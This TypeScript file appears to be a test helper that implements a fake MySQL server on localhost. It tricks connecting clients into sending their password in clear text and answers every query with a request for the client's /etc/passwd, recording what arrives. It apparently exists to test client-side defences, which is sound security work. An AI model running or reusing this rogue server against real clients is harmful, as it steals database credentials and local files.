import { once } from 'node:events';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { TLSSocket } from 'node:tls';
import type { Certificate } from './certificate';

const SSL = 0x800;
const CAPABILITIES = 0x1 | 0x8 | 0x80 | 0x200 | SSL | 0x2000 | 0x8000 | 0x80000;
const OK = Buffer.from([0, 0, 0, 2, 0, 0, 0]);
const QUERY = 3;

/** Speaks as much of MySQL's protocol as a server needs that asks for what it must not get. */
export type MysqlServer = {
  port: number;
  /** Passwords that came in the clear, and whether each came over TLS. */
  passwords: { text: string; secure: boolean }[];
  /** What came in answer to a request for a file. */
  files: Buffer[];
  stop: () => Promise<void>;
};

/** Packets of a socket, one after the other. */
class Wire {
  private held = Buffer.alloc(0);
  private sequence = 0;

  constructor(private socket: Socket) {}

  async read(): Promise<Buffer | null> {
    for (;;) {
      const size = this.held.length < 4 ? Infinity : this.held.readUIntLE(0, 3);
      if (this.held.length >= size + 4) {
        const packet = this.held.subarray(4, size + 4);
        this.sequence = this.held[3]! + 1;
        this.held = this.held.subarray(size + 4);
        return packet;
      }
      const data: unknown = this.socket.read() ?? (await this.more());
      if (!Buffer.isBuffer(data)) return null;
      this.held = Buffer.concat([this.held, data]);
    }
  }

  /** What comes next; nothing is taken from the socket before it is asked for, for TLS may begin there. */
  private async more(): Promise<unknown> {
    const { socket } = this;
    await Promise.race([once(socket, 'readable'), once(socket, 'close')]).catch(() => null);
    return socket.destroyed ? null : (socket.read() ?? Buffer.alloc(0));
  }

  write(payload: Buffer, sequence = this.sequence): void {
    const head = Buffer.alloc(4);
    head.writeUIntLE(payload.length, 0, 3);
    head[3] = sequence;
    this.socket.write(Buffer.concat([head, payload]));
  }

  secure({ key, cert }: Certificate): void {
    if (this.held.length) this.socket.unshift(this.held);
    this.held = Buffer.alloc(0);
    this.socket = new TLSSocket(this.socket, { isServer: true, key, cert });
    this.socket.on('error', () => {});
  }

  end(): void {
    this.socket.destroy();
  }
}

function greeting(): Buffer {
  const numbers = Buffer.alloc(7);
  numbers.writeUInt16LE(CAPABILITIES & 0xffff, 0);
  numbers[2] = 45;
  numbers.writeUInt16LE(2, 3);
  numbers.writeUInt16LE(CAPABILITIES >>> 16, 5);
  const salt = Buffer.alloc(20, 'x');
  return Buffer.concat([
    Buffer.from('\n8.0.36\0\x01\0\0\0', 'latin1'),
    salt.subarray(0, 8),
    Buffer.from([0]),
    numbers,
    Buffer.from([21]),
    Buffer.alloc(10),
    salt.subarray(8),
    Buffer.from('\0mysql_native_password\0', 'latin1'),
  ]);
}

/** Asks for the password in the clear, and answers each statement with a request for a file of the client. */
export async function startMysqlServer(certificate: Certificate): Promise<MysqlServer> {
  const passwords: MysqlServer['passwords'] = [];
  const files: Buffer[] = [];
  const talk = async (socket: Socket) => {
    const wire = new Wire(socket);
    wire.write(greeting(), 0);
    const first = await wire.read();
    const secure = first !== null && (first.readUInt32LE(0) & SSL) !== 0;
    if (secure) {
      wire.secure(certificate);
      await wire.read();
    }
    wire.write(Buffer.from('\xfemysql_clear_password\0', 'latin1'));
    const password = await wire.read();
    if (password === null) return;
    passwords.push({ text: password.toString('utf8').replace(/\0$/, ''), secure });
    wire.write(OK);
    for (let asked = await wire.read(); asked; asked = await wire.read()) {
      if (asked[0] !== QUERY) return wire.end();
      wire.write(Buffer.from('\xfb/etc/passwd', 'latin1'));
      const file = await wire.read();
      if (file) files.push(file);
      wire.write(OK);
    }
  };
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket.on('error', () => {}));
    void talk(socket);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    passwords,
    files,
    stop: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((done) => {
        server.close(done);
      });
    },
  };
}
